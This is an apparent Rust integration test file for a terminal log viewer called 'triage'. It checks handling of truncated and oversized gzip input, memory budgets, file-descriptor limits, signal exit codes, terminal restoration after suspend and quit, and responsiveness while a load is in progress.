/// keeps the lines read before its error, and only it says it failed.
#[test]
fn a_failed_file_fails_alone_and_keeps_the_lines_read_before_its_error() {
    use flate2::{Compression, write::GzEncoder};
    use triage::{
        app::{PaneId, SourceState},
        catalogue::Lang,
        loader::{LogData, LogFile},
    };
    let dir = tempfile::tempdir().unwrap();
    let good = dir.path().join("oom.log");
    std::fs::write(
        &good,
        format!("Nov 28 14:03:05 vm kernel: {}\n", known_line()),
    )
    .unwrap();
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    for n in 0..200_000 {
        writeln!(
            encoder,
            "Nov 28 14:04:05 vm app[7]: TRUNC-LINE {n:06} {}",
            n * 7919
        )
        .unwrap();
    }
    let gz = encoder.finish().unwrap();
    let cut = dir.path().join("trunc.gz");
    std::fs::write(&cut, &gz[..gz.len() / 2]).unwrap();
    viewer_says_what_failed_on_exit(&good, &cut);
    let logs = [&good, &cut]
        .iter()
        .map(|path| {
            let name = path.file_name().unwrap().to_str().unwrap();
            LogFile::open(name, LogData::Path(path.to_path_buf()), None).unwrap()
        })
        .collect::<Vec<_>>();
    assert!(logs.iter().all(|l| l.pane() == PaneId::Host));
    let app = common::app_with(logs, common::options(Lang::En), 160, 48);
    let pane = app.pane(PaneId::Host);
    assert_eq!(pane.sources[0].state, SourceState::Loaded);
    assert!(
        matches!(&pane.sources[1].state, SourceState::Failed(why) if why.contains("deflate")),
        "{:?}",
        pane.sources[1].state
    );
    // The good file's line and most of what the cut one held before its error.
    let rows = pane.row_count();
    assert!(rows > 50_000 && rows < 200_001, "{rows} rows");
    assert_eq!(app.hit_order.len(), 1);
    let screen = common::screen_text(&app);
    assert!(
        screen.contains("oom.log [ok]") && screen.contains("trunc.gz [failed:"),
        "{screen}"
    );
}

/// The peak resident set (VmHWM) of a running process, in bytes.
fn peak_rss_of(pid: &str) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = status.lines().find(|l| l.starts_with("VmHWM:"))?;
    let kib: u64 = line.split_whitespace().nth(1)?.parse().ok()?;
    Some(kib * 1024)
}

/// The viewer on the same 1 GiB gzip bomb beside a good file: no abort, bounded memory, the
/// good file's hit shown, the terminal given back.
#[test]
fn the_viewer_reads_a_gzip_bomb_in_bounded_memory() {
    use crate::terminal::{TRIAGE, Tmux};
    let tmux = Tmux::new(160, 48);
    let dir = tmux.dir().to_path_buf();
    write_gzip_bomb(&dir.join("bomb.log.gz"), 16);
    std::fs::write(
        dir.join("after.log"),
        format!("Nov 28 14:03:05 vm kernel: {}\n", known_line()),
    )
    .unwrap();
    tmux.run(&format!("cd {}", dir.display()));
    tmux.run(&format!("{TRIAGE} bomb.log.gz after.log; echo EXIT=$?"));
    let pid = common::wait_for("the viewer's process", common::WAIT, || {
        tmux.children().into_iter().next()
    });
    tmux.wait_for("both files read, the good one's hit shown", |s| {
        s.contains("oom-kill") && s.contains("bomb.log.gz [ok]") && s.contains("after.log [ok]")
    });
    let peak = peak_rss_of(&pid).expect("the viewer is running");
    tmux.keys(&["q"]);
    let screen = tmux.wait_for("the exit", |s| exit_code(s).is_some());
    assert_eq!(exit_code(&screen).as_deref(), Some("0"), "{screen}");
    assert!(
        peak < 100 << 20,
        "peak RSS of the viewer on a 1 GiB gzip bomb: {} MiB",
        peak >> 20
    );
    eprintln!(
        "peak RSS of the viewer on a 1 GiB gzip bomb: {} MiB",
        peak >> 20
    );
}

/// Issue 8: `scan` opened every argument before reading the first: with `ulimit -n 1024`,
/// 10,000 files gave 8,981 "Too many open files". Files are opened as they are scanned: 500
/// files under a limit of 64 descriptors are all scanned.
#[test]
fn scan_opens_files_one_at_a_time() {
    use std::os::unix::process::CommandExt;
    let dir = tempfile::tempdir().unwrap();
    let line = format!("{}\n", known_line());
    let files: Vec<_> = (0..500)
        .map(|n| {
            let path = dir.path().join(format!("log{n:03}.log"));
            std::fs::write(&path, &line).unwrap();
            path
        })
        .collect();
    let mut cmd = triage();
    cmd.args(["scan", "--format", "jsonl"]).args(&files);
    // SAFETY: setrlimit is async-signal-safe; it only lowers this child's own limit.
    unsafe {
        cmd.pre_exec(|| {
            let limit = libc::rlimit {
                rlim_cur: 64,
                rlim_max: 64,
            };
            if libc::setrlimit(libc::RLIMIT_NOFILE, &limit) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let out = cmd.output_within(common::COMMAND);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        common::stderr(&out)
            .lines()
            .take(5)
            .collect::<Vec<_>>()
            .join("\n")
    );
    assert_eq!(common::stderr(&out), "");
    let scanned: BTreeSet<String> = common::jsonl(&out)
        .iter()
        .map(|h| h["file"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(scanned.len(), 500);
}

/// Issue 8: Ctrl-Z left the shell on the alternate screen with the cursor hidden, and after
/// `fg` the terminal stayed cooked; SIGQUIT left it broken; a signal's exit code was 0. Now:
/// stopped (Ctrl-Z, or SIGTSTP from elsewhere) the shell has its screen and cooked modes; `fg`
/// brings the viewer back, redrawn whole; SIGQUIT and SIGTERM restore the terminal and exit
/// with 128 + the signal's number.
#[test]
fn stop_continue_and_quit_signals_leave_the_terminal_usable() {
    use crate::terminal::{TRIAGE, Tmux};
    let tmux = Tmux::new(160, 48);
    tmux.run(&format!("cd {}", tmux.dir().display()));
    tmux.run("stty -g > before.stty");
    let same_modes = |tag: &str| {
        tmux.run(&format!(
            "stty -g > now.stty; cmp before.stty now.stty && echo {tag}"
        ));
        tmux.wait_for(tag, |s| s.contains(&format!("\n{tag}")));
    };
    let loaded = |s: &str| s.contains("oom-kill") && s.contains("ok]") && s.contains("/79");

    tmux.run(&format!("{TRIAGE} demo"));
    tmux.wait_for("the demo", loaded);
    // Ctrl-Z: the job stops, the shell is back in its own screen and modes.
    tmux.keys(&["C-z"]);
    let screen = tmux.wait_for("the shell, the job stopped", |s| {
        s.contains("Stopped") && !s.contains("oom-kill")
    });
    assert!(
        !screen.contains('│'),
        "the viewer left its frame:\n{screen}"
    );
    same_modes("COOKED-AFTER-CTRL-Z");
    // fg: the viewer again, drawn whole, and it answers keys (raw mode: no Enter needed).
    tmux.run("clear; fg");
    tmux.wait_for("the viewer redrawn after fg", loaded);
    tmux.keys(&["n"]);
    tmux.wait_for("n answered", |s| s.contains("11/79"));
    tmux.keys(&["q"]);
    tmux.wait_for("the prompt after q", |s| {
        s.contains("PROMPT$") && !s.contains("oom-kill")
    });
    tmux.run("echo EXIT=$?");
    tmux.wait_for("exit 0 after q", |s| s.contains("EXIT=0"));
    same_modes("COOKED-AFTER-Q");

    // SIGTSTP from elsewhere, then SIGQUIT and SIGTERM: each restores the terminal, and the
    // two that end it exit with 128 + the signal.
    for (signal, code) in [
        (libc::SIGTSTP, None),
        (libc::SIGQUIT, Some(131)),
        (libc::SIGTERM, Some(143)),
    ] {
        tmux.run(&format!("clear; {TRIAGE} demo; echo EXIT=$?"));
        tmux.wait_for("the demo", loaded);
        let pid: i32 = tmux.children()[0].parse().unwrap();
        // SAFETY: kill(2) on the viewer this test started in its tmux.
        unsafe {
            libc::kill(pid, signal);
        }
        match code {
            None => {
                tmux.wait_for("stopped by SIGTSTP", |s| {
                    s.contains("Stopped") && !s.contains("oom-kill")
                });
                same_modes("COOKED-AFTER-SIGTSTP");
                tmux.run("clear; fg");
                tmux.wait_for("the viewer redrawn after fg", loaded);
                tmux.keys(&["q"]);
                // The rest of the stopped command line is not run: `fg` ran the job alone.
                tmux.wait_for("the prompt after q", |s| {
                    s.contains("PROMPT$") && !s.contains("oom-kill")
                });
                tmux.run("echo EXIT=$?");
                tmux.wait_for("exit 0", |s| s.contains("EXIT=0"));
            }
            Some(code) => {
                let screen = tmux.wait_for("the exit", |s| exit_code(s).is_some());
                assert_eq!(exit_code(&screen), Some(code.to_string()), "{screen}");
                assert!(
                    !screen.contains('│'),
                    "the viewer left its frame:\n{screen}"
                );
            }
        }
        same_modes(&format!("COOKED-AFTER-{signal}"));
    }
}

/// The real viewer on a good file and one cut short: only the cut one says `failed` in the
/// status line; after `q`, stderr says which file failed and why, and the exit code is 2 (as
/// `scan` does for a file it could not read).
fn viewer_says_what_failed_on_exit(good: &std::path::Path, cut: &std::path::Path) {
    use crate::terminal::{TRIAGE, Tmux};
    let tmux = Tmux::new(160, 48);
    tmux.run(&format!(
        "{TRIAGE} {} {}; echo EXIT=$?",
        good.display(),
        cut.display()
    ));
    let screen = tmux.wait_for("both files' states", |s| {
        s.contains("oom.log [ok]") && s.contains("trunc.gz [failed:")
    });
    assert!(screen.contains("TRUNC-LINE"), "{screen}");
    tmux.keys(&["q"]);
    let screen = tmux.wait_for("the exit", |s| exit_code(s).is_some());
    assert!(
        exit_code(&screen).as_deref() == Some("2")
            && screen.contains("trunc.gz: incomplete deflate stream")
            && !screen.contains("oom.log: "),
        "{screen}"
    );
}

/// Files are read into memory (a mapped file can be cut short under the viewer): a pane holds
/// at most its budget (a quarter of the machine's memory), so a bomb of line ends or a log
/// bigger than the machine stops there, said in its state, with what was read kept, never an
/// allocation failure. Here with a budget of 2 MiB, alone in its pane and beside another file.
#[test]
fn the_viewer_stops_a_file_at_its_memory_budget_and_keeps_what_it_read() {
    use flate2::{Compression, write::GzEncoder};
    use triage::{
        app::{Event, PaneId, SourceState},
        catalogue::Lang,
        loader::{LogData, LogFile, load_pane_within},
        matcher::Matcher,
    };
    let dir = tempfile::tempdir().unwrap();
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    for n in 0..400_000 {
        writeln!(encoder, "Nov 28 14:04:05 vm app[7]: line {n:06}").unwrap();
    }
    let big = dir.path().join("big.log.gz");
    std::fs::write(&big, encoder.finish().unwrap()).unwrap();
    let small = dir.path().join("small.log");
    std::fs::write(&small, "Nov 28 14:03:05 vm app[7]: hello\n").unwrap();
    let (catalogue, _) = Catalogue::builtin();
    let catalogue = std::sync::Arc::new(catalogue);
    let matcher = Matcher::new(&catalogue);
    for paths in [vec![&big], vec![&small, &big]] {
        let logs: Vec<LogFile> = paths
            .iter()
            .map(|p| {
                let name = p.file_name().unwrap().to_str().unwrap();
                LogFile::open(name, LogData::Path(p.to_path_buf()), None).unwrap()
            })
            .collect();
        let sources = [Vec::new(), logs.iter().map(LogFile::source).collect()];
        let mut app = triage::app::App::new(catalogue.clone(), sources, &common::options(Lang::En));
        app.update(Event::Resize(160, 48));
        let mut events = Vec::new();
        load_pane_within(&matcher, PaneId::Host, &logs, 2 << 20, &mut |ingested| {
            events.push(Event::from(ingested));
            true
        });
        for event in events {
            common::run_commands(&mut app, event);
        }
        let pane = app.pane(PaneId::Host);
        let big_state = &pane.sources.last().unwrap().state;
        assert!(
            matches!(big_state, SourceState::Failed(why) if why.starts_with("stopped after")),
            "{big_state:?}"
        );
        if paths.len() == 2 {
            assert_eq!(pane.sources[0].state, SourceState::Loaded);
        }
        let rows = pane.row_count();
        assert!(rows > 10_000 && rows < 400_000, "{rows} rows kept");
    }
}

/// `scan --follow` ended by a signal exits with 128 + its number, as a shell reports it
/// (it exited 0 or 1, as if it had read to an end). Docker is pointed at a socket that is not
/// there: the follow waits, retrying, until the signal.
#[test]
fn scan_follow_ended_by_a_signal_exits_128_plus_its_number() {
    for (signal, code) in [
        (libc::SIGTERM, 143),
        (libc::SIGINT, 130),
        (libc::SIGHUP, 129),
    ] {
        let dir = tempfile::tempdir().unwrap();
        let mut cmd = triage();
        cmd.args(["scan", "--docker", "--follow"])
            .env(
                "DOCKER_HOST",
                format!("unix://{}/no-such.sock", dir.path().display()),
            )
            .stdin(Stdio::null());
        let running = common::Running::start(&mut cmd);
        common::wait_until("the follow waiting for Docker", common::WAIT, || {
            running.stderr_so_far().contains("retrying")
        });
        let out = running.stop(signal, common::COMMAND);
        assert_eq!(out.status.code(), Some(code), "{}", common::stderr(&out));
    }
}

/// Issue 8: hits arriving out of time order (one file holding two runs, 19:00 first, then
/// 10:00) were inserted into the hit order one at a time: 300k + 300k hits took 39 s to load
/// and even `q` waited 33 s. Now they are merged in one pass, and keys are read while the load
/// goes on: `H` opens the hit list while the status line still shows the load's progress, and
/// `q` ends the viewer at once.
#[test]
fn keys_are_answered_while_out_of_order_hits_load() {
    use crate::terminal::{TRIAGE, Tmux};
    let tmux = Tmux::new(160, 48);
    let dir = tmux.dir().to_path_buf();
    let log = dir.join("two-runs.log");
    let mut out = std::io::BufWriter::new(std::fs::File::create(&log).unwrap());
    for hour in [19, 10] {
        for n in 0..200_000u32 {
            writeln!(
                out,
                "2026/11/28 {hour}:{:02}:{:02} [error] 29#29: *{n} connect() failed (111: Connection \
                 refused) while connecting to upstream, client: 172.18.0.1, server: _, request: \
                 \"GET /api/items/{n} HTTP/1.1\", upstream: \"http://172.18.0.3:8000/api/items/{n}\", \
                 host: \"localhost\"",
                n / 3600 % 60,
                n % 60
            )
            .unwrap();
        }
    }
    out.flush().unwrap();
    drop(out);
    tmux.run(&format!("cd {}", dir.display()));
    tmux.run(&format!("{TRIAGE} two-runs.log; echo EXIT=$?"));
    tmux.wait_for("the first lines", |s| s.contains("connect() failed"));
    tmux.keys(&["H"]);
    let screen = tmux.wait_for("the hit list", |s| s.contains("all hits by time"));
    assert!(
        screen.contains("%]"),
        "the load ended before the hit list opened: make the file bigger\n{screen}"
    );
    tmux.keys(&["Escape", "q"]);
    let screen = tmux.wait_for("the exit", |s| exit_code(s).is_some());
    assert_eq!(exit_code(&screen).as_deref(), Some("0"), "{screen}");
}
